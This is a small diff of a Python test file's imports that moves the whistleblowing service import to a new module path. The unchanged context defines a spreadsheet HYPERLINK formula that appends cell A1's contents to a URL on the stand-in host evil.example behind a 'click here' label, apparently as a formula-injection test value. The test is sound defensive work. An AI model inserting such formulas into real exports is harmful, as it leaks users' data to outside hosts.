@@ -16,7 +16,7 @@ from tests.security_world import XSS, build_security_world, drop_security_world
 from tests.test_workflow_whistles import plan
 from tests.workflow_world import PASSWORD, make_incident
 from workflow.accounts import load_actor
-from workflow.whistle_service import blow_whistle
+from workflow.whistles.service import blow_whistle
 from tests.clock import SESSION_NOW
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
